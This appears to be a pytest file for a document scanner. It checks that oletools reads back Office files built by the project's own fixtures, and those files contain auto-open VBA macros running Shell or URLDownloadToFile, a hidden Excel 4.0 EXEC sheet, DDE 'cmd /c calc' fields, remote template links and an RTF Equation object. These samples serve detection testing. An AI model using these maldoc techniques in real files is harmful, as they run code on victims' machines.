"""A second reader: oletools reads out of our own documents what we wrote into them.

No free tool writes macros into documents of Microsoft's; so it is asked whether ours are
what they should be, and whether it says of them what we say.
"""

import logging
import struct
import uuid

import pytest
from oletools import mraptor, msodde, oleobj, olevba, rtfobj

from pratique.scanners.office import code

CODES = [
    'Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n',
    'Private Sub Workbook_Open()\r\nSet x = CreateObject("WScript.Shell")\r\nEnd Sub\r\n',
    'Sub Document_Open()\r\nURLDownloadToFile 0, "http://a.example/b", "b", 0, 0\r\nEnd Sub\r\n',
    'Sub Auto_Open()\r\nOpen "a.vbs" For Output As #1\r\nEnd Sub\r\n',
    'Sub Work()\r\nShell "calc.exe"\r\nEnd Sub\r\n',
    "Sub AutoOpen()\r\nMsgBox 1\r\nEnd Sub\r\n",
    'Declare Function A Lib "b" ()\r\nSub AutoExec()\r\nEnd Sub\r\n',
]

EXCEL = uuid.UUID("00020820-0000-0000-C000-000000000046").bytes_le


@pytest.fixture(autouse=True)
def _quiet():
    logging.disable(logging.CRITICAL)
    yield
    logging.disable(logging.NOTSET)


def sources(octets, name="a.doc"):
    parser = olevba.VBA_Parser(name, data=octets)
    found = {one[2]: one[3] for one in parser.extract_macros()}
    parser.close()
    return found


@pytest.mark.parametrize("source", CODES)
@pytest.mark.parametrize("folder", ["Macros/", "_VBA_PROJECT_CUR/"])
def test_it_reads_the_source_out_of_our_projects(office_files, source, folder):
    octets = office_files.compound(office_files.project({"NewMacros": source}, folder))
    (text,) = sources(octets).values()
    assert source.replace("\r\n", "\n").strip() in text.replace("\r\n", "\n")


@pytest.mark.parametrize("source", CODES)
def test_it_reads_them_within_ooxml(office_files, source):
    project = office_files.compound(office_files.project({"NewMacros": source}))
    octets = office_files.ooxml({"word/vbaProject.bin": project})
    (text,) = sources(octets, "a.docm").values()
    assert source.split("\r\n")[0] in text


@pytest.mark.parametrize("source", CODES)
def test_mraptor_says_of_the_source_what_we_note(source):
    raptor = mraptor.MacroRaptor(source)
    raptor.scan()
    assert code.judge(source).flags.startswith(raptor.get_flags())


def test_it_takes_our_macro_sheet_for_one(office_files):
    book = office_files.book(office_files.auto_open(), sheet=office_files.call(110), state=2)
    octets = office_files.compound({"Workbook": book}, class_id=EXCEL)
    parser = olevba.VBA_Parser("a.xls", data=octets)
    assert parser.detect_xlm_macros()
    text = "".join(parser.xlm_macros)
    assert "Excel 4.0 macro sheet" in text
    assert "very hidden" in text
    assert "EXEC" in text


def test_it_reads_the_request_out_of_our_book(office_files, tmp_path):
    path = tmp_path / "a.xls"
    book = office_files.book(office_files.asks("cmd", "/c calc"), dt=0)
    path.write_bytes(office_files.compound({"Workbook": book}))
    assert "cmd /c calc" in msodde.process_file(str(path))


def test_it_reads_the_fields_out_of_ours(office_files, tmp_path):
    path = tmp_path / "a.docx"
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    body = f'<w:document xmlns:w="{office_files.WORDS}"><w:body>{field}</w:body></w:document>'
    path.write_bytes(office_files.ooxml({"word/document.xml": body}))
    assert "DDEAUTO cmd" in msodde.process_file(str(path))


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame"])
def test_it_reads_what_lies_elsewhere_out_of_ours(office_files, tmp_path, kind):
    path = tmp_path / "a.docx"
    relations = office_files.relations((kind, "http://a.example/t.dotm", "External"))
    path.write_bytes(office_files.ooxml({"word/_rels/document.xml.rels": relations}))
    found = list(oleobj.find_external_relationships(oleobj.XmlParser(str(path))))
    assert found == [(kind, "http://a.example/t.dotm")]


def test_it_finds_the_objects_in_our_rtf(office_files):
    inside = office_files.compound({"Equation Native": b"x" * 40})
    object_ = struct.pack("<III", 0x501, 2, 11) + b"Equation.3\0" + bytes(8)
    digits = (object_ + struct.pack("<I", len(inside)) + inside).hex().encode()
    parser = rtfobj.RtfObjParser(
        b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + digits + b"}}}"
    )
    parser.parse()
    (found,) = parser.objects
    assert (found.is_ole, found.class_name) == (True, b"Equation.3")
